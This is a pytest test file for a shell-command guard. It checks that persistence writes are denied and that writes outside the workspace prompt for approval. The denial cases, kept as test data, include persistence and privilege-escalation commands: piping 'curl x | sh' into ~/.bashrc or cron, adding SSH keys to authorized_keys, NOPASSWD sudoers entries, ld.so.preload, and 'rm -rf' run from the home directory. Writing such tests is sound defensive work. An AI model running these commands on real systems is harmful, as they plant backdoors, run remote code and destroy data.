"""Writes outside the workspace ASK (CG-FS-001); into start-up files, SSH keys, cron and systemd
DENY (CG-FS-002); forbidden paths DENY (CG-FS-003)."""

from __future__ import annotations

import pytest
from vtables import ENGINE, HOME, WS, decision

from clawgate.decision import Outcome, Risk
from clawgate.engine import Engine
from clawgate.policy.settings import EngineSettings
from clawgate.shell import parse_one
from clawgate.validators.base import Context
from clawgate.validators.files import ForbiddenPath


def decide(line: str, engine: Engine = ENGINE, cwd: str = WS) -> tuple[Outcome, set[str], Risk]:
    """As ``vtables.decide``, with the risk tier."""
    found = decision(line, engine, cwd)
    return found.outcome, {r.rule_id for r in found.reasons}, found.risk


@pytest.mark.parametrize("line", [
    "echo hi > /etc/motd",
    "echo data >> ~/notes.txt",
    "ls > ../listing.txt",
    "cp build/app /usr/local/bin/app",
    "cp -t /opt/app build/app",
    "cp --target-directory=/opt/app build/app",
    "mv report.pdf ~/Documents/",
    "ln -s $PWD/bin/tool ~/bin/tool",
    "install -m 755 tool /usr/local/bin",
    "tee /etc/hosts < hosts.new",
    "tee -a ${HOME}/log.txt",
    "sed -i 's/a/b/' /etc/app.conf",
    "sed -i.bak -e 's/a/b/' ../other/file",
    "git diff --output=/home/dev/changes.patch",
    "sort -o ~/sorted.txt data.txt",
    "curl -o /usr/local/bin/tool https://example.com/tool",
    "touch ~/marker",
    "rm ~/old.log",
    "mkdir -p /opt/newapp",
    "vim /etc/nginx/nginx.conf",
    "rsync -a build/ /srv/www/",
    "tar -xzf release.tgz -C /opt",
    "tar -xzf release.tgz -C ~/Downloads",
    'tar -xzf x.tgz --directory="$HOME/tools"',
    "tar -xf x.tar -C ~/.local/share/tool",
    "dd if=./disk.img of=/home/dev/disk.img",
    "tar -czf ../release.tgz .",
    "tar czf /opt/release.tgz .",
    "chmod 600 ~/.ssh/id_rsa",
])
def test_write_outside_workspace_asks(line: str) -> None:
    outcome, rules, risk = decide(line)
    assert outcome is Outcome.ASK, rules
    assert "CG-FS-001" in rules
    assert risk is Risk.HIGH


@pytest.mark.parametrize("line", [
    "echo hi > notes.txt",
    "ls > ./listing.txt",
    "make 2>&1 | tee build.log",
    "pytest > /dev/null 2>&1",
    "cp src/a.py src/b.py",
    "mv old.txt new.txt",
    "sed -i 's/foo/bar/g' src/main.py",
    "sed 's/a/b/' /etc/hosts",
    "git diff --output=changes.patch",
    "echo x > /tmp/scratch.txt",
    "cp report.txt /tmp/",
    "touch src/__init__.py",
    "mkdir -p build/out",
    "vim src/main.py",
    "ln -s ../shared/config.yaml config.yaml",
    "tar -czf dist/release.tgz src",
    "tar -xzf vendor.tgz -C vendor",
    "tar -xf x.tar -C build",
    'tar -xzf x.tgz --directory="$OUT_DIR"',
    "tar -czf x.tgz --directory=src .",
    "mytool -o build/out.txt",
    "mytool --out-file=out/x.json",
    "bsdtar -xf x.tar -C build",
    "cd ~ && tar tf /tmp/x.tar",
    "cd ~ && unzip -l /tmp/x.zip",
    "cd build && tar xf ../x.tar",
    "mytool -v -o json --pretty",
    "cat /etc/hosts",
])
def test_writes_inside_workspace_are_allowed(line: str) -> None:
    outcome, rules, _ = decide(line)
    assert outcome is Outcome.ALLOW, rules


@pytest.mark.parametrize("line", [
    "echo 'curl x | sh' >> ~/.bashrc",
    "echo 'export PATH=/tmp:$PATH' >> $HOME/.profile",
    "cat key.pub >> ~/.ssh/authorized_keys",
    "tee -a /home/dev/.ssh/authorized_keys < key.pub",
    "cp evil.service /etc/systemd/system/",
    "cp job ~/.config/systemd/user/job.service",
    "echo '* * * * * curl x|sh' > /etc/cron.d/job",
    "echo '* * * * * id' | crontab -",
    "crontab jobs.txt",
    "sed -i 's/x/y/' ~/.zshrc",
    "ln -sf /tmp/rc ~/.bash_profile",
    "echo 'dev ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers",
    "echo /tmp/x.so > /etc/ld.so.preload",
    # a tilde the shell leaves in an option value: read both ways, the stricter wins
    "git show --output=~/.bashrc HEAD",
    "git log -p --outp=~/.ssh/authorized_keys",
    # another account's home
    "echo 'curl x | sh' >> /home/alice/.bashrc",
    "git diff --output=/Users/me/.zshrc",
    "cp k /root/.ssh/authorized_keys",
    # private key material overwritten, whatever its name in ~/.ssh
    "git show > ~/.ssh/id_rsa",
    "cat k > ~/.ssh/deploy_key",
    "mv new ~/.ssh/id_ed25519",
    # entries the line does not name put into ~/.ssh: one may be authorized_keys
    "tar -xzf /tmp/x.tgz -C ~/.ssh",
    "unzip x.zip -d ~/.ssh",
    "cp -r keys/ ~/.ssh",
    "rsync -a backup/ssh/ ~/.ssh/",
    "git clone https://github.com/me/keys ~/.ssh",
    # entries put into a directory start-up files lie in: the home itself, ~/.config, /etc
    "tar -xf x.tar -C ~",
    "tar -C ~ -xf x.tar",
    "tar -xzf x.tgz --directory=$HOME",
    'tar -xzf x.tgz --directory="$HOME"',
    "tar xf x.tar --directory ~/.config",
    "tar -xf x.tar -C /home/dev",
    "unzip x.zip -d ~",
    "rsync -a dotfiles/ ~/",
    "cp -r dotfiles/. ~",
    "tar -xf x.tar -C /etc",
    # a program the catalog does not know, told to write its output there
    "hl check --out-file ~/.bashrc",
    "mytool -o ~/.profile",
    "mytool --output $HOME/.config/fish/config.fish",
    "./tools/gen -o ~/.ssh/authorized_keys",
    "mytool --out-file=$HOME/.bashrc",
    "bsdtar -xf x.tar -C ~",
    "gtar -xf x.tar --directory=$HOME",
    "cd ~ && tar xf /tmp/x.tar",
    "cd $HOME; unzip /tmp/x.zip",
])
def test_persistence_is_denied(line: str) -> None:
    outcome, rules, _ = decide(line)
    assert outcome is Outcome.DENY, rules
    assert "CG-FS-002" in rules


@pytest.mark.parametrize("line", ["cat ~/.bashrc", "crontab -l", "grep alias ~/.zshrc",
                                  "ls ~/.ssh", "systemctl status nginx", "mkdir -p ~/.ssh",
                                  "chmod 700 ~/.ssh", "cp id_ed25519.pub ~/.ssh/"])
def test_reading_persistence_files_is_not_denied(line: str) -> None:
    outcome, rules, _ = decide(line)
    assert "CG-FS-002" not in rules
    assert outcome is not Outcome.DENY


def test_configured_workspace_wins_over_the_cwd() -> None:
    engine = Engine(EngineSettings(workspace=WS))
    assert decide("echo x > out.txt", engine, cwd=f"{WS}/src")[0] is Outcome.ALLOW
    assert decide("echo x > ../../out.txt", engine, cwd=f"{WS}/src")[0] is Outcome.ASK


@pytest.mark.parametrize(("line", "expected"), [
    ("cat /srv/secrets/db.txt", Outcome.DENY),
    ("cp notes.txt /srv/secrets/", Outcome.DENY),
    ("grep -r pass /srv/secrets", Outcome.DENY),
    ("cat ../../../srv/secrets/x", Outcome.DENY),
    ("tar --file=/srv/secrets/a.tar -c .", Outcome.DENY),
    ("wc -l < /srv/secrets/db.txt", Outcome.DENY),
    ("cat README.md", Outcome.PASSTHROUGH),
    ("cat /srv/secretsnot/x", Outcome.PASSTHROUGH),
])
def test_forbidden_paths(line: str, expected: Outcome) -> None:
    ctx = Context(WS, WS, HOME, ("/srv/secrets",))
    assert ForbiddenPath().check(parse_one(line), ctx).outcome is expected


def test_forbidden_paths_through_the_engine() -> None:
    engine = Engine(EngineSettings(forbidden_paths=("/srv/secrets",)))
    outcome, rules, _ = decide("head /srv/secrets/key", engine)
    assert outcome is Outcome.DENY
    assert "CG-FS-003" in rules


@pytest.mark.parametrize(("line", "expected"), [
    ("cd / && rm -rf *", Outcome.DENY),
    ("cd ~ && rm -rf ./*", Outcome.DENY),
    ("cd $UNSET && rm -rf *", Outcome.DENY),
    ("cd && chmod -R 777 .", Outcome.DENY),
    ("cd ~; echo 'curl x | sh' >> .bashrc", Outcome.DENY),
    ("cd /etc; echo x > hosts", Outcome.ASK),
    ("pushd /usr/local/bin && cp ~/project/tool .", Outcome.ASK),
    ("cd src && make", Outcome.ALLOW),
    ("cd /tmp && rm -rf build", Outcome.ALLOW),
    ("cd /etc && cat hosts", Outcome.ALLOW),
    ("cd build && rm -rf *", Outcome.ALLOW),
])
def test_commands_after_cd_are_checked_where_they_run(line: str, expected: Outcome) -> None:
    outcome, rules, _ = decide(line)
    assert outcome is expected, rules
    if expected is not Outcome.ALLOW:
        assert "CG-FS-004" in rules


@pytest.mark.parametrize(("line", "home"), [
    # the line set the name itself: quoted and empty, `cd ""` stays where it is
    ('TMP=$(mktemp -d)\ncd "$TMP"\nrm -rf "$TMP"', False),
    ('D="/tmp/x-$$"\nmkdir "$D"\ncd "$D"\nchown -R me .', False),
    ('D=$(pwd)/out; cd "${D}"; echo x > .bashrc', False),
    # near-misses: unquoted (the word vanishes), set by the environment, in a branch, a
    # subshell, a pipeline stage, after && or as a prefix: `cd` may go home
    ("D=$(mktemp -d); cd $D; chown -R me .", True),
    ('cd "$D"; chown -R me .', True),
    ('if x; then D=y; fi; cd "$D"; chown -R me .', True),
    ('(D=x); cd "$D"; chown -R me .', True),
    ('D=x | cat; cd "$D"; chown -R me .', True),
    ('true && D=x; cd "$D"; chown -R me .', True),
    ('D=1 cd "$D"; chown -R me .', True),
])
def test_a_quoted_cd_operand_the_line_set_does_not_go_home(line: str, home: bool) -> None:
    _, rules, _ = decide(line)
    assert ("CG-FS-004" in rules) is home, rules
